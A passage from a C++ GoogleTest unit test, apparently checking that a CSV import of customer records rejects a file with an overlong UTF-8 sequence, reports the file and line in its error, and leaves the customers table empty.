    EXPECT_EQ(overlong.exitCode, 1);
    EXPECT_TRUE(overlong.err.contains(office.file(QStringLiteral("overlong.csv:3:"))))
        << overlong.err.toStdString();
    EXPECT_TRUE(overlong.err.contains(QLatin1String("UTF-8"))) << overlong.err.toStdString();
    EXPECT_EQ(count(office.db, QStringLiteral("SELECT count(*) FROM customers")), 0);
}
